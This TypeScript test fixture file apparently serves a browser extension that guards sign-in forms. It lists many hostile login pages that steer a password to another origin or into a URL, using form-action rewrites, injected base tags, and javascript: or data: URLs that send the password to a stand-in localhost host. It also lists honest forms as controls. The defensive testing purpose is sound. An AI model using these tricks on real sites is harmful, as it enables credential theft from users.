// Forms that would send a password to where it does not belong: to another origin, or into an address. Each is a sign-in form at the right
// origin under one trick, with the code that the phone is told. Numbers T… are those of docs/threat-model.md.

import type { Fault } from '../../src/extension/page-api.ts';
import { SHADOWS } from './families.ts';

export interface Trick {
  html: string;
  /** A page of the same origin that `html` shows in a frame, as `NAME.frame`. */
  frame?: string;
  /** Pressed by a person once the form was filled. */
  press?: string;
  /** The page tries it only later, and says so in `window.tried`. */
  late?: boolean;
  /** Where alone the page works. */
  only?: 'firefox';
  /** What the phone is told. */
  told: Fault;
}

const AWAY = 'http://localhost:ELSEWHERE/TAKEN';
const HERE = '/session?by=TAKEN';
const FIELDS = `<p><label>User name <input name="user" autocomplete="username"></label></p>
  <p><label>Password <input name="password" type="password" autocomplete="current-password"></label></p>`;
const BUTTON = '<button>Sign in</button>';
const form = (inner = FIELDS + BUTTON, attributes = `method="post" action="${HERE}"`) =>
  `<form ${attributes}>${inner}</form>`;
const to = (action: string, more = 'method="post"') => form(FIELDS + BUTTON, `${more} action="${action}"`);
const based = (base: string, action: string) => `${base}${to(action)}`;
const BASE = '<base href="http://localhost:ELSEWHERE/TAKEN/">';
const SCRIPT = `const form = document.forms[0]; const [user, password] = form.querySelectorAll('input'); const button = form.querySelector('button, [type=submit], [type=image]');
  const AWAY = '${AWAY}'; const on = (target, name, work, capture) => target.addEventListener(name, work, capture);`;
const scripted = (script: string, page = form()) => `${page}<script>${SCRIPT}${script}</script>`;
const tells = (script: string) => scripted(script, form(FIELDS + BUTTON, `action="${HERE}"`));
const framed = (address: string) =>
  `<h1>A page</h1><iframe src="${address}" style="width:600px;height:300px"></iframe>`;
const FRAME = framed('TRICK.frame');
const shadow = (inner: string, mode = 'open', script = '') => `<sign-in></sign-in><script>
  customElements.define('sign-in', class extends HTMLElement { connectedCallback() { const tree = this.attachShadow({ mode: '${mode}' });
    tree.innerHTML = ${JSON.stringify(inner)}; const AWAY = '${AWAY}'; const form = tree.querySelector('form');
    const button = tree.querySelector('button'); const password = tree.querySelector('[type=password]'); ${script} } })</script>`;
/** A script that makes the form its own once the password is in: the page behaves until then. */
const later = (script: string, ms: number) =>
  scripted(
    `on(form, 'submit', (event) => event.preventDefault()); on(password, 'change', () => setTimeout(() => { ${script}; window.tried = true }, ${ms}));`,
  );

const origin = (html: string, more: Partial<Trick> = {}): Trick => ({ html, told: 'origin-mismatch', ...more });
const address = (html: string, more: Partial<Trick> = {}): Trick => ({ html, told: 'password-in-address', ...more });

/** T18: what sends a password elsewhere. Nothing may arrive there, and no address may hold it. */
const TRICKS: Record<string, Trick> = {
  // Addresses
  'action-absolute': origin(to(AWAY)),
  'action-without-scheme': origin(to('//localhost:ELSEWHERE/TAKEN')),
  'action-with-backslashes': origin(to('\\\\localhost:ELSEWHERE\\TAKEN')),
  'action-in-capitals': origin(to('HTTP://LOCALHOST:ELSEWHERE/TAKEN')),
  'action-with-breaks': origin(to('ht&#10;tp:&#9;//local&#10;host:ELSEWHERE/TAKEN')),
  'action-after-spaces': origin(to(' &#10; http://localhost:ELSEWHERE/TAKEN')),
  'action-with-the-right-name': origin(to('http://127.0.0.1:OWNPORT@localhost:ELSEWHERE/TAKEN')),
  'action-at-another-port': origin(to('http://127.0.0.1:ELSEWHERE/TAKEN')),
  'action-at-a-short-number': origin(to('http://127.1:ELSEWHERE/TAKEN')),
  'action-at-another-name-of-the-server': origin(to('http://localhost:OWNPORT/TAKEN')),
  'action-of-another-scheme': origin(to('https://127.0.0.1:OWNPORT/TAKEN')),
  'action-by-mail': origin(to('mailto:taken@localhost?subject=TAKEN', 'method="post" enctype="text/plain"')),
  'action-as-plain-text': origin(to(AWAY, 'method="post" enctype="text/plain"')),
  'action-in-parts': origin(to(AWAY, 'method="post" enctype="multipart/form-data"')),
  'action-of-data': origin(
    `${to(`data:text/html,<script>fetch('${AWAY}?'+location.href)</script>`, 'target="inner"')}<iframe name="inner"></iframe>`,
  ),
  'action-of-a-blob': origin(
    scripted(
      `form.action = URL.createObjectURL(new Blob(['<script>fetch("${AWAY}?"+location.href)</' + 'script>'], { type: 'text/html' }));`,
    ),
  ),
  'action-of-script': origin(to(`javascript:location='${AWAY}?'+document.forms[0].password.value`)),
  'action-of-script-with-breaks': origin(to(`java&#10;script:location='${AWAY}?'+document.forms[0].password.value`)),
  'button-of-script': origin(
    form(
      `${FIELDS}<button formaction="javascript:location='${AWAY}?'+document.forms[0].password.value">Sign in</button>`,
    ),
  ),
  // Bases
  'base-in-the-body': origin(based(BASE, 'session')),
  'base-after-the-form': origin(`${to('session')}${BASE}`),
  'base-before-another': origin(based(`${BASE}<base href="/">`, 'session')),
  'base-without-scheme': origin(based('<base href="//localhost:ELSEWHERE/TAKEN/">', './session')),
  'base-and-a-query': origin(based(BASE, '?by=form')),
  'base-and-a-fragment': origin(based(BASE, '#')),
  'base-and-a-button': origin(
    `${BASE}${form(`${FIELDS}<button formaction="session">Sign in</button>`, 'method="post"')}`,
  ),
  'base-set-on-input': origin(
    scripted(`on(password, 'input', () => document.head.insertAdjacentHTML('beforeend', '${BASE}'))`, to('session')),
  ),
  'base-set-on-submit': origin(
    scripted(`on(form, 'submit', () => document.head.insertAdjacentHTML('beforeend', '${BASE}'))`, to('session')),
  ),
  'base-in-a-frame': origin(FRAME, { frame: based(BASE, 'session') }),
  // Buttons
  'button-with-an-address': origin(form(`${FIELDS}<button formaction="${AWAY}">Sign in</button>`)),
  'input-with-an-address': origin(form(`${FIELDS}<input type="submit" formaction="${AWAY}" value="Sign in">`)),
  'picture-with-an-address': origin(
    form(`${FIELDS}<input type="image" alt="Sign in" formaction="${AWAY}" style="width:90px;height:30px">`),
  ),
  'button-outside-the-form': origin(
    `<div>${form(FIELDS, `id="f" method="post" action="${HERE}"`)}<button form="f" formaction="${AWAY}">Sign in</button></div>`,
  ),
  'another-button-pressed-by-the-person': {
    ...origin(
      scripted(
        `on(form, 'submit', (event) => event.submitter === button && event.preventDefault())`,
        form(`${FIELDS}${BUTTON}<button id="other" formaction="${AWAY}">Help</button>`),
      ),
      { press: '#other' },
    ),
  },
  'another-button-pressed-by-the-page': origin(
    scripted(
      `on(button, 'click', (event) => { event.preventDefault(); document.getElementById('other').click() })`,
      form(`${FIELDS}${BUTTON}<button id="other" formaction="${AWAY}">Help</button>`),
    ),
  ),
  'button-changed-on-click': origin(scripted(`on(button, 'click', () => { button.formAction = AWAY })`)),
  'button-changed-on-submit': origin(scripted(`on(form, 'submit', () => { button.formAction = AWAY })`)),
  'button-added-on-input': origin(
    scripted(
      `on(password, 'input', () => { button.remove(); form.insertAdjacentHTML('beforeend', '<button formaction="${AWAY}">Sign in</button>') })`,
    ),
  ),
  // Targets
  'into-a-new-window': origin(to(AWAY, 'method="post" target="_blank"')),
  'into-a-named-frame': origin(`${to(AWAY, 'method="post" target="inner"')}<iframe name="inner"></iframe>`),
  'into-a-frame-by-its-button': origin(
    `${form(`${FIELDS}<button formtarget="inner" formaction="${AWAY}">Sign in</button>`)}<iframe name="inner"></iframe>`,
  ),
  'into-a-frame-by-the-base': origin(
    `<base href="http://localhost:ELSEWHERE/TAKEN/" target="inner">${to('session')}<iframe name="inner"></iframe>`,
  ),
  'into-a-frame-that-reads-its-address': address(`${to(HERE, 'target="inner"')}<iframe name="inner"></iframe>`),
  // Which form a field belongs to
  'field-of-another-form': origin(
    `<form id="evil" method="post" action="${AWAY}"></form>${form(`${FIELDS.replaceAll('<input', '<input form="evil"')}<button form="evil">Sign in</button>`)}`,
  ),
  'password-of-another-form': origin(
    `<form id="evil" method="post" action="${AWAY}"></form>${form(`${FIELDS.replace('<input name="password"', '<input form="evil" name="password"')}<button form="evil">Sign in</button>`)}`,
  ),
  'form-around-the-form': origin(`<form method="post" action="${AWAY}">${form()}`),
  'form-set-around-by-script': origin(
    scripted(
      `const evil = document.createElement('form'); evil.method = 'post'; evil.action = AWAY; form.replaceWith(evil); evil.append(...form.childNodes);`,
    ),
  ),
  'moved-into-another-form': origin(
    scripted(
      `on(button, 'click', (event) => { event.preventDefault(); const evil = document.createElement('form'); evil.method = 'post'; evil.action = AWAY;
        document.body.append(evil); evil.append(password); evil.requestSubmit() })`,
    ),
  ),
  'tied-to-another-form-on-submit': origin(
    scripted(
      `on(form, 'submit', (event) => { event.preventDefault(); password.setAttribute('form', 'evil'); document.getElementById('evil').submit() })`,
      `${form()}<form id="evil" method="post" action="${AWAY}"></form>`,
    ),
  ),
  'copied-into-another-form': origin(
    scripted(
      `on(form, 'submit', (event) => { event.preventDefault(); const evil = document.getElementById('evil'); evil.note.value = password.value; evil.submit() })`,
      `${form()}<form id="evil" method="post" action="${AWAY}"><input type="hidden" name="note"></form>`,
    ),
  ),
  'renamed-on-submit': origin(scripted(`on(form, 'submit', () => { password.name = 'note'; form.action = AWAY })`)),
  // Frames and shadow trees
  'in-a-frame': origin(FRAME, { frame: to(AWAY) }),
  'in-a-frame-to-its-top': origin(FRAME, { frame: to(AWAY, 'method="post" target="_top"') }),
  'in-a-frame-changed-on-submit': origin(FRAME, {
    frame: scripted(`on(form, 'submit', () => { form.action = AWAY })`),
  }),
  'in-a-frame-in-a-frame': origin(FRAME, { frame: framed('in-a-frame.frame') }),
  'in-an-open-tree': origin(shadow(to(AWAY))),
  'in-a-closed-tree': origin(shadow(to(AWAY), 'closed')),
  'in-an-open-tree-changed-on-click': origin(shadow(form(), 'open', `button.onclick = () => { form.action = AWAY }`)),
  'in-a-closed-tree-changed-on-submit': origin(
    shadow(form(), 'closed', `form.onsubmit = () => { form.action = AWAY }`),
  ),
  'in-a-tree-of-markup': origin(
    `<div><template shadowrootmode="open">${form(`${FIELDS}<button formaction="${AWAY}">Sign in</button>`)}</template></div>`,
  ),
  // Names that stand before the browser's own
  'shadowed-by-fields': origin(
    form(
      `${['action', 'method', 'getAttribute', 'ownerDocument', 'baseURI', 'elements', 'nodeName']
        .map((name) => `<input type="hidden" name="${name}" value="${HERE}">`)
        .join('')}${FIELDS}${BUTTON}`,
      `method="post" action="${AWAY}"`,
    ),
  ),
  'shadowed-by-all-names': origin(to(AWAY) + SHADOWS),
  'shadowed-base': origin(`${based(BASE, 'session')}<img name="baseURI" alt=""><img name="URL" alt="">`),
  'shadowed-on-submit': origin(
    scripted(
      `on(form, 'submit', () => { for (const name of ['getAttribute', 'contains', 'namespaceURI', 'localName', 'elements']) form.insertAdjacentHTML('beforeend', '<input type="hidden" name="' + name + '">'); form.setAttribute('action', AWAY) })`,
    ),
  ),
  // Changed while it is filled
  'changed-on-focus': origin(scripted(`on(password, 'focus', () => { form.action = AWAY })`)),
  'changed-on-input': origin(scripted(`on(password, 'input', () => { form.action = AWAY })`)),
  'changed-on-key': origin(scripted(`on(password, 'keyup', () => { form.action = AWAY })`)),
  'changed-on-change': origin(scripted(`on(password, 'change', () => { form.action = AWAY })`)),
  'changed-on-click': origin(scripted(`on(button, 'click', () => { form.action = AWAY })`)),
  'changed-on-submit': origin(scripted(`on(form, 'submit', () => { form.action = AWAY }, true)`)),
  'changed-on-submit-by-the-window': origin(scripted(`on(window, 'submit', () => { form.action = AWAY }, true)`)),
  'changed-when-its-values-are-taken': origin(
    scripted(`on(form, 'formdata', (event) => { event.stopPropagation(); form.action = AWAY })`),
  ),
  'sent-by-the-page-on-change': origin(scripted(`on(password, 'change', () => { form.action = AWAY; form.submit() })`)),
  // Changed afterwards
  'sent-by-the-page-in-the-fifth-second': origin(later('form.action = AWAY; form.submit()', 4_500), { late: true }),
  'sent-by-the-page-after-an-answer': origin(
    scripted(
      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); form.action = AWAY; form.submit(); window.tried = true })`,
    ),
    { late: true },
  ),
  'asked-for-by-the-page-later': origin(
    scripted(
      `let first = true; on(form, 'submit', (event) => { if (!first) return; first = false; event.preventDefault();
        setTimeout(() => { form.action = AWAY; form.requestSubmit(); window.tried = true }, 300) })`,
    ),
    { late: true },
  ),
  'sent-by-the-person-later': origin(
    scripted(
      `let first = true; on(form, 'submit', (event) => { if (!first) return; first = false; event.preventDefault(); form.action = AWAY })`,
    ),
    { press: 'form button' },
  ),
  // As a framework does that keeps the text of its fields itself.
  'put-back-when-it-is-drawn-again': origin(
    scripted(
      `let kept = ''; on(password, 'input', () => { kept = password.value });
      on(form, 'submit', (event) => { if (!password.value) event.preventDefault(); form.action = AWAY; setTimeout(() => { password.value = kept }) })`,
    ),
    { press: 'form button' },
  ),
  // Into the address
  'get-by-its-method': address(to(HERE, 'method="get"')),
  'get-without-a-method': address(to(HERE, '')),
  'get-by-an-unknown-method': address(to(HERE, 'method="put"')),
  'get-by-its-button': address(form(`${FIELDS}<button formmethod="get">Sign in</button>`)),
  'get-by-its-button-that-knows-no-method': address(form(`${FIELDS}<button formmethod="put">Sign in</button>`)),
  'get-elsewhere': origin(to(AWAY, 'method="get"')),
  'get-set-on-input': address(scripted(`on(password, 'input', () => { form.method = 'get' })`)),
  'get-set-on-submit': address(scripted(`on(form, 'submit', () => { form.method = 'get' })`)),
  'get-that-hides-its-submit': address(tells(`on(form, 'submit', (event) => event.stopImmediatePropagation())`)),
  'get-sent-by-the-page': address(
    scripted(`on(button, 'click', (event) => { event.preventDefault(); form.method = 'get'; form.submit() })`),
  ),
  'get-in-a-frame': address(FRAME, { frame: to(HERE, 'method="get"') }),
  'get-in-a-tree': address(shadow(form(FIELDS + BUTTON, `action="${HERE}"`))),
};

/** Honest forms, however they are written: each posts to where it is, once, with both values. */
const HONEST: Record<string, Omit<Trick, 'told'>> = {
  plain: { html: form() },
  'absolute-address': { html: to('HTTP://127.0.0.1:OWNPORT/session?by=TAKEN') },
  'base-of-the-same-origin': { html: based('<base href="http://127.0.0.1:OWNPORT/a/b/">', 'session?by=TAKEN') },
  'base-elsewhere-for-pictures': { html: based(BASE, 'http://127.0.0.1:OWNPORT/session?by=TAKEN') },
  'button-with-an-address': {
    html: form(
      `${FIELDS}<button formaction="${HERE}" formmethod="post">Sign in</button>`,
      'method="get" action="/other"',
    ),
  },
  'button-outside-the-form': {
    html: `<div>${form(FIELDS, `id="f" method="post" action="${HERE}"`)}<button form="f">Sign in</button></div>`,
  },
  'picture-as-button': {
    html: form(`${FIELDS}<input type="image" alt="Sign in" style="width:90px;height:30px">`),
  },
  'into-its-top': { html: to(HERE, 'method="post" target="_top"') },
  'into-a-named-frame': { html: `${to(HERE, 'method="post" target="inner"')}<iframe name="inner"></iframe>` },
  'in-a-frame': { html: FRAME, frame: form() },
  'in-a-tree': { html: shadow(form()) },
  'by-script-without-method': {
    html: tells(
      `on(form, 'submit', (event) => { const body = new URLSearchParams(new FormData(form)); event.preventDefault(); fetch('${HERE}', { method: 'POST', body }) })`,
    ),
  },
  'by-script-that-waits': {
    html: tells(
      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); fetch('${HERE}', { method: 'POST', body: new URLSearchParams(new FormData(form)) }) })`,
    ),
  },
  'by-script-on-click': {
    html: scripted(
      `on(button, 'click', () => fetch('${HERE}', { method: 'POST', body: new URLSearchParams(new FormData(form)) }))`,
      form(`${FIELDS}<button type="button">Sign in</button>`, ''),
    ),
  },
  'by-script-at-the-document': {
    html: scripted(
      `on(document, 'submit', (event) => { event.preventDefault(); fetch('${HERE}', { method: 'POST', body: new URLSearchParams({ user: user.value, password: password.value }) }) })`,
      form(FIELDS + BUTTON, 'method="get"'),
    ),
  },
  'by-script-and-an-empty-address': {
    html: scripted(
      `on(button, 'click', (event) => { event.preventDefault(); fetch('${HERE}', { method: 'POST', body: new URLSearchParams({ user: user.value, password: password.value }) }) })`,
      form(FIELDS + BUTTON, 'action="javascript:void(0)"'),
    ),
  },
  // What React 19 writes for a function, and handles at the document.
  'by-a-function-of-a-framework': {
    html: scripted(
      `on(document, 'submit', (event) => { event.preventDefault(); fetch('${HERE}', { method: 'POST', body: new URLSearchParams(new FormData(form)) }) })`,
      form(FIELDS + BUTTON, `action="javascript:throw new Error('React form unexpectedly submitted.')"`),
    ),
  },
  // Chromium runs no such address that an extension has pressed.
  'by-a-function-of-the-page': {
    only: 'firefox',
    html: scripted(
      `window.signIn = () => void fetch('${HERE}', { method: 'POST', body: new URLSearchParams({ user: user.value, password: password.value }) })`,
      form(FIELDS + BUTTON, 'method="post" action="javascript:signIn();"'),
    ),
  },
  // Notes every call of what a guard needs, and every change of the page, and sends along what it has seen.
  'watched-by-its-page': {
    html: scripted(
      `const seen = [];
      on(form, 'submit', (event) => { if (event.defaultPrevented) seen.push('prevented') });
      on(window, 'formdata', (event) => set.call(event.formData, 'seen', seen.join()));
      const { set } = FormData.prototype;
      new MutationObserver(() => seen.push('change')).observe(document, { subtree: true, childList: true, attributes: true });
      for (const [kind, name] of [[EventTarget, 'addEventListener'], [Event, 'preventDefault'], [FormData, 'delete'], [FormData, 'forEach'],
        [Element, 'getAttribute'], [Node, 'getRootNode'], [HTMLFormElement, 'requestSubmit']]) {
        const own = kind.prototype[name];
        kind.prototype[name] = function (...given) { seen.push(name); return own.apply(this, given) };
      }`,
    ),
  },
  'sent-by-the-page-after-an-answer': {
    html: scripted(
      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); form.submit() })`,
    ),
  },
  // To know whether its button may be pressed, say.
  'read-by-its-page-at-every-letter': {
    html: scripted(
      `button.disabled = true; on(form, 'input', () => { button.disabled = [...new FormData(form).values()].includes('') })`,
    ),
  },
};

const THIRD = 'http://127.0.0.1:ELSEWHERE/TAKEN';
const THERE = `const THIRD = '${THIRD}';`;
const there = (script: string, page = to(AWAY)) => scripted(`${THERE}${script}`, page);

/** Forms that send to the other origin, which the phone was shown: each is posted there, once, with both values; but for one that goes home. */
const AGREED: Record<string, Omit<Trick, 'told'> & { home?: true }> = {
  plain: { html: to(AWAY) },
  'by-its-button': { html: form(`${FIELDS}<button formaction="${AWAY}" formmethod="post">Sign in</button>`, '') },
  'by-its-base': { html: based(BASE, 'session') },
  'in-parts': { html: to(AWAY, 'method="post" enctype="multipart/form-data"') },
  'in-a-frame': { html: FRAME, frame: to(AWAY) },
  'in-a-tree': { html: shadow(to(AWAY)) },
  'after-an-answer': {
    html: scripted(
      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); form.submit() })`,
      to(AWAY),
    ),
  },
  'home-in-the-end': { html: scripted(`on(form, 'submit', () => { form.action = '${HERE}' })`, to(AWAY)), home: true },
};

/** Forms that the phone was shown the same origin for, and that send elsewhere all the same, or into an address. */
const BEYOND: Record<string, Trick> = {
  'to-a-third': origin(to(THIRD)),
  'to-a-third-by-its-button': origin(
    form(`${FIELDS}<button formaction="${THIRD}">Sign in</button>`, `method="post" action="${AWAY}"`),
  ),
  'to-a-third-by-its-base': origin(based('<base href="http://127.0.0.1:ELSEWHERE/TAKEN/">', 'session')),
  'to-its-name-at-another-port': origin(to('http://localhost:OWNPORT/TAKEN')),
  'to-a-third-on-input': origin(there(`on(password, 'input', () => { form.action = THIRD })`)),
  'to-a-third-on-click': origin(there(`on(button, 'click', () => { form.action = THIRD })`)),
  'to-a-third-on-submit': origin(there(`on(form, 'submit', () => { form.action = THIRD })`)),
  'to-a-third-by-a-button-set-on-submit': origin(there(`on(form, 'submit', () => { button.formAction = THIRD })`)),
  'to-a-third-when-its-values-are-taken': origin(
    there(`on(form, 'formdata', (event) => { event.stopPropagation(); form.action = THIRD })`),
  ),
  'to-a-third-after-an-answer': origin(
    there(
      `on(form, 'submit', async (event) => { event.preventDefault(); await fetch('/plain'); form.action = THIRD; form.submit(); window.tried = true })`,
    ),
    { late: true },
  ),
  'to-a-third-from-a-frame': origin(FRAME, { frame: there(`on(form, 'submit', () => { form.action = THIRD })`) }),
  'copied-into-a-form-to-a-third': origin(
    scripted(
      `on(form, 'submit', (event) => { event.preventDefault(); const evil = document.getElementById('evil'); evil.note.value = password.value; evil.submit() })`,
      `${to(AWAY)}<form id="evil" method="post" action="${THIRD}"><input type="hidden" name="note"></form>`,
    ),
  ),
  'in-its-address': origin(to(AWAY, 'method="get"')),
  'in-its-address-without-a-method': origin(to(AWAY, '')),
  'in-its-address-by-its-button': origin(
    form(`${FIELDS}<button formmethod="get">Sign in</button>`, `method="post" action="${AWAY}"`),
  ),
  'in-its-address-on-click': origin(scripted(`on(button, 'click', () => { form.method = 'get' })`, to(AWAY))),
  'in-its-address-on-submit': origin(scripted(`on(form, 'submit', () => { form.method = 'get' })`, to(AWAY))),
};

/** Pages by name, `NAME.frame` for what a frame shows. */
const pagesOf = (tricks: Record<string, Omit<Trick, 'told'>>): Record<string, string> =>
  Object.fromEntries(
    Object.entries(tricks).flatMap(([name, { html, frame }]) => {
      const of = (page: string) => page.replaceAll('TAKEN', name).replaceAll('TRICK', name);
      return [[name, of(html)], ...(frame ? [[`${name}.frame`, of(frame)]] : [])];
    }),
  );

export { AGREED, BEYOND, HONEST, TRICKS };
export const TRICK_PAGES = pagesOf(TRICKS);
export const HONEST_PAGES = pagesOf(HONEST);
export const AGREED_PAGES = pagesOf(AGREED);
export const BEYOND_PAGES = pagesOf(BEYOND);
